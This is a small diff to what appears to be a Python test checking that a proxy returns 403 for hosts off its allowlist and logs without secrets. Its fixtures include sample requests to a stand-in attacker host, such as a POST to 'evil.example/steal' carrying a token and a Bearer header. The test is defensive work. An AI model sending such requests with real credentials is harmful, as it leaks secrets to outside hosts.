@@ -159,7 +159,8 @@ async def test_hosts_off_the_allowlist_get_a_403_and_a_log_line_without_secrets(
     allowed, other = origins
     target = {
         "connect": "CONNECT evil.example:443 HTTP/1.1\r\n\r\n",
-        "http": "POST http://evil.example/steal?token=SECRET HTTP/1.1\r\nAuthorization: Bearer SECRET\r\n\r\n",
+        "http": "POST http://evil.example/steal?token=SECRET HTTP/1.1\r\n"
+        "Authorization: Bearer SECRET\r\n\r\n",
         "other-port": f"GET http://127.0.0.1:{other.port}/?SECRET HTTP/1.1\r\n\r\n",
         "ip-for-name": f"CONNECT localhost:{allowed.port} HTTP/1.1\r\n\r\n",  # only 127.0.0.1:port is listed
     }[kind]
